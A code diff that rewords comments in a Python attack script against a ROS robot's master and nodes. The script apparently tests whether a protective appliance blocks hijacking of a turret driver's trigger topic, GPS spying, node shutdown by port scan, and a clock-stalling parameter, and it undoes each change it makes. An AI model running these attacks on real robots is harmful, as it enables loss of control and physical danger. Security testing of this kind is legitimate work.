@@ -1,7 +1,7 @@
-"""Try attacks that any host on the robot's network can make with only Python: attacker.py [ATTACK …]
+"""Try attacks that any host on the robot's network can make with plain Python: attacker.py [ATTACK …]
 
-It knows the master's address (ROS_MASTER_URI), and the names of the robot's nodes and topics, as anyone does who
-has seen one such robot. It prints one JSON object per attack: `attack`, `succeeded`, `tried`, `answer`.
+The attacker knows the master's address (ROS_MASTER_URI), and the names of the robot's nodes and topics, which are the
+same on all such robots. The program prints one JSON object for each attack: `attack`, `succeeded`, `tried`, `answer`.
 Behind a plain master each attack succeeds.
 """
 
@@ -26,7 +26,7 @@ ME = "/tablet"  # a name that belongs to this host, so an attacker who took over
 VICTIM = "/landshark_laser"
 BATTERY, GPS = "/landshark/battery", "/landshark/gps"
 LIMIT = 3.0
-NODE_LIMIT = 15.0  # behind a master that does not answer, a node tries for ever
+NODE_LIMIT = 15.0  # behind a master that does not answer, a node retries forever
 ROBOT = os.environ.get("LANDSHARK", "10.77.0.10")
 NODE_PORTS = range(32768, 61000)  # where Linux puts programs that do not choose: ROS nodes
 RELAY_PORTS = range(19001, 19061)  # where the appliance's node ports usually begin
@@ -94,7 +94,7 @@ def replace_a_driver():
     """Register under the turret driver's name, to receive the operator's commands."""
     arguments = ("/landshark_turret", "/landshark_control/trigger", "*", MY_API)
     answer = call(MASTER, "registerSubscriber", *arguments)
-    if granted(answer):  # undo it
+    if granted(answer):  # undo the registration
         call(MASTER, "unregisterSubscriber", "/landshark_turret", "/landshark_control/trigger", MY_API)
     return granted(answer), "registerSubscriber(/landshark_turret, /landshark_control/trigger)", answer
 
@@ -110,7 +110,7 @@ def spy_on_gps():
 
 
 def subscribe(topic):
-    """Receive one message of a topic, as a subscriber does."""
+    """Receive one message of a topic, as a subscriber would."""
     tried = f"registerSubscriber({ME}, {topic})"
     answer = call(MASTER, "registerSubscriber", ME, topic, "*", MY_API)
     if not granted(answer):
@@ -162,7 +162,7 @@ def kill_a_node():
 
 
 def try_every_port():
-    """Bypass the master: call `shutdown` on every open port, and try to read the position from it."""
+    """Call `shutdown` on every open port, bypassing the master, and try to read the position from each."""
     host = urlsplit(MASTER).hostname
     said = []
     for port in RELAY_PORTS:
@@ -179,7 +179,7 @@ def try_every_port():
 
 
 def go_past_the_master():
-    """Try all ports of the robot to find a node's own, and call `shutdown` on the first that answers."""
+    """Try all ports of the robot to find a node, and call `shutdown` on the first one that answers."""
     tried = f"shutdown() of a node, found by a port scan of {ROBOT}"
     ports = open_ports(ROBOT, NODE_PORTS)
     for port in ports:
@@ -210,7 +210,7 @@ def open_ports(host, ports, at_once=800, seconds=0.25):
 
 
 def stop_the_clock():
-    """Set the parameter that makes nodes which start later wait for a clock that never ticks."""
+    """Set the parameter that makes later nodes wait for a clock that never ticks."""
     answer = call(MASTER, "setParam", ME, "/use_sim_time", True)
     if granted(answer):
         call(MASTER, "deleteParam", ME, "/use_sim_time")
